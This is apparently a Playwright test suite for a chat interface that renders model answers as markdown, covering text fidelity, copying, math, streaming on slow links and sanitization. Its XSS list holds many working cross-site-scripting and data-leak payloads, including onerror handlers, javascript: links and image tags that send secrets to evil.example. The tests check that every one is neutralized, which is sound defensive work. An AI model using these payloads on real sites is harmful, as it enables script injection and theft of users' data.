"""Text on the screen: what the model wrote, drawn as markdown, and nothing it could do harm with."""

from __future__ import annotations

import asyncio
import random
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, replace
from itertools import pairwise
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, BrowserContext, Page, expect

from groq_core.events import TextDelta
from tests.requires import needs
from tests.serving import listening
from tests.ui.conftest import House, open_page
from tests.ui.scripts import BEGUN, DONE, answered, ask, plays, says

pytestmark = [pytest.mark.browser, needs("chromium")]

FORBIDDEN = {"SCRIPT", "IFRAME", "STYLE", "LINK", "META", "BASE", "OBJECT", "EMBED", "FORM", "INPUT", "VIDEO", "IMG"}

PLAIN = {
    "unicode": "né ü 日本語 한국어 עברית العربية 🎉👩‍👩‍👧‍👦 ﷽ — “quotes” … ½ ℵ",
    "entities": "5 < 6 & 7 > 3, &amp; is an entity, &lt;b&gt; too, © &copy;",
    "prices": "It costs $5 or $10, at most $0.05/$0.08 per million.",
    "angle brackets": "Use List<String> and <T extends Foo>, or <think> tags.",
    "long word": "x" * 500,
    "separators": "line\u2028separator and\u00a0no-break",
    "path": r"C:\new\table and \n is two characters",
}
"""Texts in which markdown says nothing, by what is special about them; entities are markdown's own."""

DOCUMENTS = {
    "lists": "Intro\n\n1. one\n2. two\n\n   still two\n\n3. three\n   - a\n   - b\n\n     deep\n\n- other\n\n.",
    "tables": "| a | b |\n|:--|--:|\n| 1 | `x|y` |\n| 2 | **z** |\n\nafter\n\n| not | a table\n\nend",
    "code": "```python\ndef f():\n    '```'\n```\n\n~~~\n~\n~~~\n\n    in\n    code\n\n```\nopen",
    "headings": "Setext\n===\n\ntext\n\nOther\n---\n\n# One\n## Two\n\n---\n\nlast",
    "quotes": "> a\nlazy\n>\n> b\n\n> c\n\n1. x\n\n   > in a list\n\nend",
    "links": "[late][1] and [inline](https://example.org/a_(b)) <https://example.org>\n\n[1]: https://example.org 'T'",
    "math": "Sum $a_1 + b^2$ and\n\n$$\n\\frac{1}{2}\n$$\n\n\\[ x \\] and \\( y \\), $5 and $6.",
    "html": "<div>\n\n**bold**\n\n</div>\n\nH<sub>2</sub>O<br>x <kbd>K</kbd> <b>no</b>",
    "line ends": "one\r\ntwo\r\n\r\n- a\r\n- b\r\n\r\nend",
    "emphasis": "**bold *both* bold** _under_ ~~gone~~ `co``de` ``a`b`` \\*escaped\\*",
    "tasks": "- [x] done\n- [ ] open\n  - [x] inner",
}

XSS = (
    "<script>fire()</script>",
    "<img src=x onerror=fire()>",
    "![x](javascript:fire())",
    "[click](javascript:fire())",
    "[click](JaVaScRiPt:fire())",
    "[click](data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=)",
    "[click](vbscript:fire())",
    "<a href='javascript:fire()'>click</a>",
    "<svg onload=fire()><svg/onload=fire()>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZpcmUoKSI+PC9zdmc+)",
    "<iframe srcdoc='<script>parent.fire()</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=q><button>send</button></form>",
    "<details open ontoggle=fire()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fire()>",
    "<noscript><p title='</noscript><img src=x onerror=fire()>'>",
    "```html\n<img src=x onerror=fire()>\n```",
    '```"><img src=x onerror=fire()>\ncode\n```',
    "`<img src=x onerror=fire()>`",
    "| <img src=x onerror=fire()> |\n|---|\n| <script>fire()</script> |",
    "$\\href{javascript:fire()}{x}$",
    "$\\htmlData{onclick=fire()}{x}$ $<img src=x onerror=fire()>$",
    "$$\\unknown<img src=x onerror=fire()>$$",
    "![leak](https://evil.example/?q=secret)",
    "![leak][1]\n\n[1]: https://evil.example/?q=secret",
    "<img src='https://evil.example/?q=secret'>",
    "<img src='//evil.example/?q=secret'><picture><source srcset=https://evil.example/x></picture>",
    "<video poster=https://evil.example/x src=https://evil.example/y></video>",
    "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
    "<p style='background: url(https://evil.example/x)'>x</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "[x](https://example.org 'title\" onmouseover=fire() x=\"')",
    "<a id=chat-send>x</a><div id=status-panel data-target='groq:x' data-state=healthy>x</div>",
    "<div data-role=assistant>spoofed</div>",
    "${fire()} {{fire()}} {{constructor.constructor('fire()')()}}",
    "&lt;img src=x onerror=fire()&gt;",
    "<br onclick=fire()><sub onclick=fire()>x</sub><u style=color:red>x</u>",
)


@pytest.mark.one_page
@pytest.mark.parametrize("name", PLAIN)
async def test_plain_text_stands_on_the_screen_as_it_came(page: Page, house: House, name: str) -> None:
    text = PLAIN[name]
    house.script = says(text, piece=1 if len(text) < 100 else 9)
    await ask(page, name)
    shown = await answered(page)

    assert shown == text.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">").replace("&copy;", "©")
    await page.locator(".gc-bar-row button").first.click()
    assert await page.evaluate("navigator.clipboard.readText()") == text


@pytest.mark.one_page
async def test_code_stands_on_the_screen_and_is_copied_byte_for_byte(page: Page, house: House) -> None:
    code = 'def f(x):\n\treturn f"<b>{x}</b>" and "\\n"  # 日本語\n\n\n    # four\nend'
    house.script = says(f"Before\n\n```python\n{code}\n```\n\nafter")
    await ask(page, "code")
    await answered(page)
    await page.wait_for_selector(".gc-code .hljs-keyword")

    assert await page.locator(".gc-code code").text_content() == code + "\n"
    await page.click(".gc-copy-code")
    assert await page.evaluate("navigator.clipboard.readText()") == code


@pytest.mark.one_page
async def test_where_there_is_no_clipboard_to_write_to_it_is_copied_the_old_way(page: Page, house: House) -> None:
    """As on an address without a certificate; and whoever copies by keyboard stays where they are."""
    house.script = says("Copied the old way.")
    await ask(page, "copy this")
    await answered(page)
    await page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('not here')); }")
    try:
        button = page.locator(".gc-bar-row button").first
        await button.focus()
        await page.keyboard.press("Enter")
        await expect(button.locator("path")).to_have_attribute("d", "M5 12.5l4.5 4.5L19 7")  # a tick
        assert await page.evaluate("navigator.clipboard.readText()") == "Copied the old way."
        await expect(button).to_be_focused()
    finally:
        await page.evaluate("delete navigator.clipboard.writeText")


@pytest.mark.one_page
async def test_formula_is_drawn_and_a_price_is_not(page: Page, house: House) -> None:
    house.script = says("Let $E = mc^2$ for $5 and $10, and $$\\int_0^1 x\\,dx$$")
    await ask(page, "math")
    await answered(page)

    await expect(page.locator(".gc-math .katex")).to_have_count(2)
    await expect(page.locator("#chat-log [data-role=assistant]")).to_contain_text("for $5 and $10")


@pytest.mark.one_page
async def test_two_hundred_messages_stay_usable(page: Page, house: House) -> None:
    house.script = says("ok")
    await ask(page, "the first")
    await answered(page)
    await page.evaluate(
        """async (main) => {
            const { Answer } = await import(main.replace("first.js", "shared/answer.js"));
            const host = document.querySelector(".gc-group"); // nothing comes after what stands in the last one
            for (let n = 0; n < 200; n += 1) {
                const answer = new Answer();
                answer.hear({ t: `Answer **${n}** with \\`code\\` and\\n\\n- a\\n- list\\n` });
                await answer.end();
                const turn = document.createElement("section");
                turn.className = "gc-turn";
                turn.append(answer.element);
                host.prepend(turn);
            }
        }""",
        await main_script(page),
    )
    await ask(page, "still there?")

    assert await answered(page, 202) == "ok"


@pytest.fixture(scope="module")
async def bench(browser: Browser, application: House) -> Any:
    """A page on which a test draws text without asking anybody."""
    async for page in drawing_page(browser, application):
        yield page


@pytest.fixture(scope="module")
async def old_bench(browser: Browser, application: House) -> Any:
    """The same in a browser that has no sanitizer of its own."""
    async for page in drawing_page(browser, application, "delete globalThis.Sanitizer"):
        yield page


async def drawing_page(browser: Browser, application: House, before: str = "") -> Any:
    # A context of its own: pages beside the kept one of the shared context are closed after each test.
    context = await browser.new_context()
    await context.add_init_script(before)
    page = await context.new_page()
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(request.url))
    await open_page(page, application)
    await page.evaluate(
        """async (main) => {
            globalThis.fired = 0;
            globalThis.fire = () => (globalThis.fired += 1);
            const { TextView } = await import(main.replace("first.js", "shared/text-view.js"));
            const frame = () => new Promise((done) => requestAnimationFrame(done));
            globalThis.watch = async (steps) => {
                const root = document.createElement("div");
                document.querySelector(".gc-turns").append(root);
                const view = new TextView(root);
                const seen = [];
                let going = true;
                const look = () => {
                    if (seen.at(-1) !== root.textContent) seen.push(root.textContent);
                    if (going) requestAnimationFrame(look);
                };
                requestAnimationFrame(look);
                for (const [text, ms] of steps) {
                    view.append(text);
                    await new Promise((done) => setTimeout(done, ms));
                }
                await view.end();
                await frame();
                await frame();
                going = false;
                root.remove();
                return seen;
            };
            globalThis.draw = async (pieces, steps) => {
                const root = document.createElement("div");
                root.className = "gc-text";
                document.querySelector(".gc-turns").append(root);
                const view = new TextView(root);
                for (const piece of pieces) {
                    view.append(piece);
                    if (steps) await frame();
                }
                await view.end();
                const attributes = [];
                for (const node of root.querySelectorAll("*")) {
                    for (const { name, value } of node.attributes) attributes.push([node.tagName, name, value]);
                }
                const tags = [...root.querySelectorAll("*")].map((node) => node.tagName);
                const drawn = { html: root.innerHTML, text: view.text, inner: root.innerText, tags, attributes };
                root.remove();
                return drawn;
            };
        }""",
        await main_script(page),
    )
    yield page, hosts
    await context.close()


async def main_script(page: Page) -> str:
    found: str = await page.evaluate("document.querySelector('script[src*=\"js/first.js\"]').src")
    return found


@pytest.mark.parametrize("name", DOCUMENTS)
@pytest.mark.parametrize("seed", range(2))
async def test_growing_text_ends_as_the_whole_would_look(bench: tuple[Page, set[str]], name: str, seed: int) -> None:
    page, _ = bench
    text, chance = DOCUMENTS[name], random.Random(seed)
    pieces, at = [], 0
    while at < len(text):
        step = chance.randint(1, 6)
        pieces.append(text[at : at + step])
        at += step

    grown = await page.evaluate("(pieces) => draw(pieces, true)", pieces)
    whole = await page.evaluate("(text) => draw([text], false)", text)

    assert grown["html"] == whole["html"]
    assert grown["text"] == text


@pytest.mark.parametrize("attack", XSS, ids=range(len(XSS)))
async def test_answer_can_neither_run_nor_fetch_nor_pretend(
    bench: tuple[Page, set[str]], old_bench: tuple[Page, set[str]], attack: str
) -> None:
    assert await bench[0].evaluate("typeof Sanitizer") != await old_bench[0].evaluate("typeof Sanitizer")
    for page, asked in (bench, old_bench):
        await stay_unharmed(page, asked, attack)


async def stay_unharmed(page: Page, asked: set[str], attack: str) -> None:
    drawn = await page.evaluate("(text) => draw([text.slice(0, 9), text.slice(9), '\\n\\nend'], true)", attack)
    await page.evaluate("new Promise((done) => setTimeout(done, 20))")

    assert await page.evaluate("globalThis.fired") == 0
    assert not [url for url in asked if "evil.example" in url]
    assert not FORBIDDEN & {tag.upper() for tag in drawn["tags"]}
    for tag, name, value in drawn["attributes"]:
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ("id", "name", "srcset", "action", "data-role", "data-target", "data-state"), (tag, name)
        if name in ("href", "src"):
            assert value.startswith(("https://", "data:image/")), (tag, name, value)
        if name == "style":
            assert "url" not in value, value


async def test_picture_inside_the_answer_is_shown(bench: tuple[Page, set[str]]) -> None:
    page, _ = bench
    pixel = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

    drawn = await page.evaluate("(text) => draw([text], false)", f"![a pixel]({pixel})")

    assert f'<img src="{pixel}" alt="a pixel">' in drawn["html"]


async def test_remote_picture_is_named_but_not_loaded(bench: tuple[Page, set[str]]) -> None:
    page, _ = bench

    drawn = await page.evaluate("(text) => draw([text], false)", "![a cat](https://evil.example/cat.png)")

    assert drawn["inner"] == "[a cat: picture from the web, not loaded]"


async def test_links_leave_without_a_trace(bench: tuple[Page, set[str]]) -> None:
    page, _ = bench

    drawn = await page.evaluate("(text) => draw([text], false)", "[docs](https://example.org/x)")

    assert 'target="_blank"' in drawn["html"]
    assert 'rel="noopener noreferrer nofollow"' in drawn["html"]


async def test_no_half_words_are_shown_unless_the_model_stops_in_one(bench: tuple[Page, set[str]]) -> None:
    page, _ = bench
    pieces = [("The ", 40), ("incom", 40), ("prehensible ", 40), ("wo", 40), ("rd 漢", 40), ("字", 40), ("un", 600)]

    began = time.monotonic()
    seen = await page.evaluate("(steps) => watch(steps)", pieces)

    shown = [text.strip() for text in seen]
    assert shown[-1] == "The incomprehensible word 漢字un"
    assert "The incomprehensible word 漢字" in shown
    assert all(shown[-1].startswith(text) for text in shown)
    if time.monotonic() - began < 2:  # a machine that stands still may let any word lie for too long
        assert not [text for text in shown if text.endswith(("incom", "wo"))]


async def test_lumps_of_a_slow_link_are_spread_over_the_time_between_them(bench: tuple[Page, set[str]]) -> None:
    page, _ = bench
    lump = "twenty words in one lump that a slow link has held back until all of them could come at once "

    seen = await page.evaluate("(steps) => watch(steps)", [(lump, 300)] * 5)

    assert len(seen) > 10  # five lumps
    assert all((lump * 5).startswith(text.strip()) for text in seen)
    assert seen[-1].strip() == (lump * 5).strip()


@dataclass
class SlowLink:
    """
    A line from the server to the page.

    Attributes:
        slow: Whether it gives 400 bytes every 0.2 s.
        lumps: How many of those had words of an answer in them.
    """

    url: str = ""
    slow: bool = False
    lumps: int = 0


@asynccontextmanager
async def slow_link(url: str) -> AsyncIterator[SlowLink]:
    link = SlowLink()

    async def relay(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, down: bool = False) -> None:
        with suppress(ConnectionError):
            while data := await reader.read(400 if down and link.slow else 65536):
                writer.write(data)
                await writer.drain()
                if down and link.slow:
                    link.lumps += b'{"t":' in data
                    await asyncio.sleep(0.2)
        writer.close()

    async def connect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        host, port = urlsplit(url).netloc.split(":")
        inner_reader, inner_writer = await asyncio.open_connection(host, int(port))
        try:
            await asyncio.gather(relay(reader, inner_writer), relay(inner_reader, writer, down=True))
        finally:
            inner_writer.close()

    async with listening(connect) as here:
        link.url = f"http://127.0.0.1:{here}/"
        yield link


async def test_a_phone_on_a_slow_link_shows_whole_words_and_no_jumps(context: BrowserContext, house: House) -> None:
    text = " ".join(f"{word}{n}" for n in range(60) for word in ("river", "stone", "meadow", "mountain")) + "."
    pieces = [TextDelta(text[at : at + 5]) for at in range(0, len(text), 5)]  # tokens that part words
    house.script = plays(BEGUN, *[step for piece in pieces for step in (piece, lambda: asyncio.sleep(0.002))], DONE)
    async with slow_link(house.url) as link:
        page = await context.new_page()
        await open_page(page, replace(house, url=link.url))
        link.slow = True
        await page.evaluate(
            """() => {
              window.seen = [];
              const look = () => {
                const text = document.querySelector("#chat-log [data-role=assistant]")?.innerText ?? "";
                if (text !== seen.at(-1)) seen.push(text);
                requestAnimationFrame(look);
              };
              look();
            }"""
        )
        await ask(page, "go")

        assert await answered(page) == text
        seen: list[str] = await page.evaluate("seen")
        await page.close()
    ends = {place for place, letter in enumerate(text) if letter in " ."} | {0, len(text)}
    ends.add(len(pieces[0].text))  # the first token waits for nothing
    assert all(text.startswith(shown) for shown in seen)
    assert not [shown for shown in seen if len(shown.rstrip()) not in ends]
    assert max(len(after) - len(before) for before, after in pairwise(seen)) < 400
    assert len(seen) > 2 * link.lumps > 8, "each lump is spread over the time until the next"


async def test_nothing_is_spread_for_who_wants_no_motion(bench: tuple[Page, set[str]]) -> None:
    page, _ = bench
    await page.emulate_media(reduced_motion="reduce")
    try:
        seen = await page.evaluate("(steps) => watch(steps)", [("one two three four five six seven eight ", 300)] * 5)
    finally:
        await page.emulate_media(reduced_motion="no-preference")

    assert len([text for text in seen if text]) <= 6


@pytest.mark.one_page
async def test_background_tab_catches_up_at_once(page: Page, house: House, context: BrowserContext) -> None:
    house.script = plays(BEGUN, TextDelta("while nobody looked"), DONE)
    other = await context.new_page()
    await other.bring_to_front()
    await ask(page, "go")
    await page.bring_to_front()

    assert await answered(page) == "while nobody looked"
    await other.close()
